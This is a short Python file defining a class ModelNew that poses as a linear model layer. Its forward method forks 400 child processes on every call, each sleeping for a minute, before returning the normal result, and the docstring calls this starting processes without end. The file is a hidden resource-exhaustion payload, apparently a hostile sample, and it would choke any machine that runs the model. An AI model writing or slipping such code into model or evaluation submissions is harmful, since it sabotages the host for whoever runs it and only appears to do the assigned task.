"""Starts processes without end."""

import os
import time

from work import Linear


class ModelNew(Linear):
    def forward(self, x):
        for _ in range(400):
            if os.fork() == 0:
                time.sleep(60)
                os._exit(0)
        return self.compute(x)
